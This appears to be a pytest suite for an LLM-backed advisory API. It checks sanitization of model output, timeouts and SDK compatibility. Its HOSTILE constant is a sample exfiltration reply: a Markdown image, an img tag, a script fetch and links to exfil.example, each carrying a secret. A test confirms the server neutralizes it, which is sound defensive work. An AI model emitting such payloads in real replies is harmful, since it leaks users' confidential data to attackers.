"""A real `cto-advisor serve` process in front of a real (fake, loopback) LLM server, attacked as
issue 22 says, and used by third-party clients as a new user would.

- Item 3: a model reply holding a Markdown image whose URL carries a secret, raw HTML, a link
  and a bare URL (split across stream chunks by the LLM server) reaches no caller intact:
  /v1/ask and /v1/chat/completions, streamed and not.
- Item 4: a memo topic with control characters exports to Word (was HTTP 500).
- Item 12: streamed answers run under the same worker cap and timeout as any request, and a
  timed-out request stops its work (the model's stream is closed).
- Item 13: the OpenAI SDK, LangChain's ChatOpenAI and the `llm` command-line client, streamed
  and not, with follow-up turns.
"""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import pytest

from advisor.core.sanitize import origin
from advisor.core.settings import Settings
from tests.api.conftest import add_accounts, bearer, copy_index
from tests.chroma_server import stop_process
from tests.fakes.openai_server import FakeOpenAI, answering
from tests.processes import CLI

SECRET = "Acme-runway-14-months"
HOSTILE = (
    "Use the red pager [1]. "
    f"![chart](https://exfil.example/p.png?d={SECRET}) "
    f'<img src="https://exfil.example/i.png?d={SECRET}"><script>fetch("https://exfil.example")</script> '
    f"[details](https://exfil.example/l?d={SECRET}) and see https://exfil.example/b?d={SECRET} ."
)
TIMEOUT = 20.0  # short enough for the timeout test, long for a first answer on a busy machine


@pytest.fixture(scope="module")
def served(two_clients_index, tmp_path_factory):
    """(base URL, tokens, fake LLM): `cto-advisor serve --port 0` with one worker."""
    settings = Settings(data_dir=copy_index(two_clients_index, tmp_path_factory.mktemp("s") / "d"))
    tokens = add_accounts(settings)
    with FakeOpenAI(HOSTILE) as fake:
        env = {k: v for k, v in os.environ.items() if not k.startswith(("ADVISOR_", "OPENAI_"))}
        env |= {
            "ADVISOR_DATA_DIR": str(settings.data_dir),
            "OPENAI_BASE_URL": fake.base_url,
            "OPENAI_API_KEY": "fake",
            "ADVISOR_API_WORKERS": "1",
            "ADVISOR_API_TIMEOUT": str(TIMEOUT),
            "ADVISOR_API_RATE_LIMIT": "0",
            "ADVISOR_LLM_MAX_RETRIES": "0",
        }
        log = tmp_path_factory.mktemp("serve-log") / "serve.log"
        with open(log, "w") as out:
            proc = subprocess.Popen([*CLI, "serve", "--port", "0"], env=env, stdout=out,
                                    stderr=subprocess.STDOUT)  # fmt: skip
        try:
            deadline = time.monotonic() + 120
            while not (m := re.search(r"running on (http://\S+)", log.read_text())):
                assert proc.poll() is None and time.monotonic() < deadline, log.read_text()
                time.sleep(0.2)
            yield m.group(1), tokens, fake
        finally:
            stop_process(proc)


def hostile_tokens(markdown_text: str) -> list[str]:
    """What a GFM renderer (markdown-it with linkify, as chat UIs) would fetch or link."""
    from markdown_it import MarkdownIt

    found = []

    def walk(tokens):
        for t in tokens:
            if t.type in ("image", "html_inline", "html_block"):
                found.append(f"{t.type}: {t.content or t.attrGet('src')}")
            if t.type == "link_open" and origin(t.attrGet("href") or "") is not None:
                found.append(f"link: {t.attrGet('href')}")
            walk(t.children or [])

    md = MarkdownIt("gfm-like")
    md.linkify.set({"fuzzy_link": False})  # GFM links www. and scheme URLs, not bare names
    walk(md.parse(markdown_text))
    return found


def sse_data(response: httpx.Response) -> list[str]:
    return [line[6:] for line in response.iter_lines() if line.startswith("data: ")]


def test_model_output_cannot_exfiltrate_from_any_route(served):
    url, tokens, fake = served
    # The answer prompt asks for structured output: the hostile text is a cited recommendation.
    fake.reply = lambda request: json.dumps({"covered": True, "recommendation": [HOSTILE]})
    ask = {"question": "Which pager does the on-call engineer carry?"}
    chat = {"model": "cto-advisor/acme", "messages": [{"role": "user", "content": ask["question"]}]}
    h = bearer(tokens.acme)
    texts = {}
    with httpx.Client(base_url=url, timeout=120, headers=h) as http:
        texts["ask"] = http.post("/v1/ask", json=ask).json()["answer"]
        with http.stream("POST", "/v1/ask", json=ask | {"stream": True}) as r:
            events = [json.loads(d) for d in sse_data(r)]
        texts["ask stream"] = "".join(e.get("text", "") for e in events if "text" in e)
        texts["ask done"] = events[-1]["answer"]
        reply = http.post("/v1/chat/completions", json=chat).json()
        texts["chat"] = reply["choices"][0]["message"]["content"]
        with http.stream("POST", "/v1/chat/completions", json=chat | {"stream": True}) as r:
            chunks = [json.loads(d) for d in sse_data(r) if d != "[DONE]"]
        texts["chat stream"] = "".join(
            c["choices"][0]["delta"].get("content") or "" for c in chunks if c["choices"]
        )
    for route, text in texts.items():
        assert "red pager" in text, (route, text)
        assert hostile_tokens(text) == [], (route, text)
        assert not re.search(r"(?<!\\)<(img|script)", text, re.I), (route, text)  # escaped


def test_a_memo_topic_with_control_characters_exports_to_word(served):
    from docx import Document

    url, tokens, fake = served
    fake.reply = lambda request: "{}"  # not a memo: the offline draft is used, with a warning
    topic = "On-call \x1b]0;owned\x07rotation\x00 or a \x0bsecond\x1f pager?"
    r = httpx.post(url + "/v1/memos", json={"topic": topic, "format": "docx"},
                   headers=bearer(tokens.acme), timeout=120)  # fmt: skip
    assert r.status_code == 200, r.text
    text = "\n".join(p.text for p in Document(io.BytesIO(r.content)).paragraphs)
    assert "On-call rotation or a second pager?" in text and "\x1b" not in text


def test_streams_hold_the_worker_cap_and_the_timeout_and_stop_their_work(served):
    url, tokens, fake = served
    fake.reply = answering("The pager rotates weekly [1]. " * 40)  # as JSON, 180 pieces ...
    fake.chunk_delay = 0.4  # ... at 2.5 a second: about 70 s, far past the timeout
    fake.max_active = fake.disconnects = 0
    ask = {"question": "Which pager does the on-call engineer carry?", "stream": True}
    chat = {"model": "cto-advisor/acme", "stream": True,
            "messages": [{"role": "user", "content": ask["question"]}]}  # fmt: skip

    def call(kind: str) -> tuple[float, str]:
        started = time.monotonic()
        path, body = {"ask": ("/v1/ask", ask), "chat": ("/v1/chat/completions", chat),
                      "plain": ("/v1/ask", ask | {"stream": False})}[kind]  # fmt: skip
        r = httpx.post(url + path, json=body, headers=bearer(tokens.acme), timeout=120)
        return time.monotonic() - started, f"{r.status_code} {r.text[-300:]}"

    try:
        with ThreadPoolExecutor(4) as pool:
            results = list(pool.map(call, ["ask", "chat", "plain", "ask"]))
        ended = time.monotonic()
        while fake.active and time.monotonic() - ended < 5:
            time.sleep(0.1)
    finally:
        fake.chunk_delay = 0.0
    for seconds, text in results:
        assert seconds < TIMEOUT + 4, (seconds, text)  # every request ends near the timeout
        assert "504" in text or "longer than" in text, text
    assert fake.max_active == 1, "streams ran past the worker cap of 1"
    assert fake.active == 0 and fake.disconnects >= 1, "timed-out work went on"


def test_the_openai_sdk_gets_usage_ids_and_finish_reasons(served):
    from openai import OpenAI

    url, tokens, fake = served
    fake.reply = answering("Acme's on-call engineer carries the red pager [1].")
    client = OpenAI(base_url=url + "/v1", api_key=tokens.acme, max_retries=0)
    messages = [{"role": "user", "content": "Which pager does the on-call engineer carry?"}]
    reply = client.chat.completions.create(model="cto-advisor/acme", messages=messages)
    assert reply.id.startswith("chatcmpl-") and reply.created > 0
    assert reply.model == "cto-advisor/acme" and reply.choices[0].finish_reason == "stop"
    used = reply.usage
    assert used.prompt_tokens > 5 and used.completion_tokens > 5
    assert used.total_tokens == used.prompt_tokens + used.completion_tokens
    stream = client.chat.completions.create(
        model="cto-advisor/acme", messages=messages, stream=True,
        stream_options={"include_usage": True},
    )  # fmt: skip
    chunks = list(stream)
    assert {c.id for c in chunks} == {chunks[0].id}
    assert chunks[-1].choices == [] and chunks[-1].usage.total_tokens > 10
    assert [c.choices[0].finish_reason for c in chunks[:-1]][-1] == "stop"
    assert all(c.usage is None for c in chunks[:-1])


def test_langchain_chat_openai_streamed_and_not_with_a_follow_up(served):
    from langchain_core.messages import AIMessage, HumanMessage
    from langchain_openai import ChatOpenAI

    url, tokens, fake = served
    fake.reply = answering("Acme's on-call engineer carries the red pager [1].")
    chat = ChatOpenAI(model="cto-advisor/acme", base_url=url + "/v1", api_key=tokens.acme,
                      max_retries=0, stream_usage=True)  # fmt: skip
    first = HumanMessage("Which pager does the on-call engineer carry?")
    reply = chat.invoke([first])
    assert "red pager" in reply.content and reply.usage_metadata["total_tokens"] > 10
    fake.reply = answering("Every week [1].")
    follow = [first, AIMessage(reply.content), HumanMessage("And how often does it rotate?")]
    pieces = list(chat.stream(follow))
    assert "Every week" in "".join(p.content for p in pieces)
    assert sum((p.usage_metadata or {}).get("total_tokens", 0) for p in pieces) > 10
    sent = fake.requests[-1]["messages"][-1]["content"]
    assert "how often does it rotate" in sent  # the follow-up reached the model, with context


def test_the_llm_command_line_client_streamed_and_not_with_a_follow_up(served, tmp_path):
    """simonw's `llm` (a dev dependency), configured as its docs say for an OpenAI-compatible
    server: extra-openai-models.yaml and a stored key."""
    url, tokens, fake = served
    llm = Path(sys.executable).with_name("llm")
    if not llm.exists():
        pytest.skip("the `llm` client is a dev dependency: pip install -e '.[dev]'")
    home = tmp_path / "llm"
    home.mkdir()
    (home / "extra-openai-models.yaml").write_text(
        f"- model_id: cto-acme\n  model_name: cto-advisor/acme\n  api_base: {url}/v1\n"
        "  api_key_name: cto\n"
    )
    (home / "keys.json").write_text(json.dumps({"cto": tokens.acme}))
    env = os.environ | {"LLM_USER_PATH": str(home)}

    def run(*args: str) -> str:
        done = subprocess.run([str(llm), *args], capture_output=True, text=True, env=env,
                              timeout=120)  # fmt: skip
        assert done.returncode == 0, done.stderr
        return done.stdout

    fake.reply = answering("Acme's on-call engineer carries the red pager [1].")
    assert "red pager" in run("-m", "cto-acme", "--no-stream", "Which pager is carried?")
    fake.reply = answering("It rotates every week [1].")
    assert "every week" in run("-c", "And how often does it rotate?")  # streamed, continued
    # The earlier turn reached the model as the conversation.
    assert any("red pager" in str(m.get("content")) for m in fake.requests[-1]["messages"])
    logged = subprocess.run([str(llm), "logs", "--json", "-n", "2"], capture_output=True,
                            text=True, env=env, timeout=60)  # fmt: skip
    rows = json.loads(logged.stdout)
    assert [r["response"] for r in rows][-1].startswith("It rotates every week")
    assert all(r["input_tokens"] and r["output_tokens"] for r in rows)  # usage came through
